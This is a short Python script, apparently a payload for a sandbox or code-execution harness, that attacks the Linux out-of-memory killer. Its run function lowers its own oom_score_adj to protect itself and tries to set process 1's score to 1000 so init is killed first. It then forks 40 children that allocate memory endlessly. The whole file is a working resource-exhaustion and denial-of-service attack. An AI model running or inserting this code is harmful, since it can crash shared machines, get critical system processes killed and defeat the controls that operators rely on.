# Makes itself the kernel's last choice, then takes memory in many small processes.
import os, time
def run(query):
    for score in ("0", "-500", "-1000"):
        try: open("/proc/self/oom_score_adj", "w").write(score); print("score", score, flush=True)
        except OSError as error: print("score", score, error.strerror, flush=True)
    try: open("/proc/1/oom_score_adj", "w").write("1000"); print("PROCESS 1 SCORED", flush=True)
    except OSError as error: print("process 1:", error.strerror, flush=True)
    for _ in range(40):
        if os.fork() == 0:
            hoard = []
            while True: hoard.append(bytearray(2**20)); time.sleep(0.001)
    time.sleep(60)
